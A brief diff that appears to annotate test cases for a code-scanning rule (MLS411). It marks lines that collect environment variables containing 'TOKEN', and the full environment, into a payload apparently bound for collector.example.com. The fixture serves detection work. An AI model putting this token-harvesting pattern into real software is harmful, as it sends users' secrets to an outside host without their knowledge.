@@ -12,7 +12,7 @@ URL = "https://collector.example.com/c"
 
 def _profile():
     prof = {"host": os.uname().nodename}
-    prof.update({k: v for k, v in os.environ.items() if "TOKEN" in k})
+    prof.update({k: v for k, v in os.environ.items() if "TOKEN" in k})  # ruleid: MLS411
     return prof
 
 
@@ -24,7 +24,7 @@ def report():
 
 class Telemetry:
     def __init__(self):
-        self.payload = {"env": dict(os.environ)}
+        self.payload = {"env": dict(os.environ)}  # ruleid: MLS411
 
     def send(self):
         # ruleid: MLS411
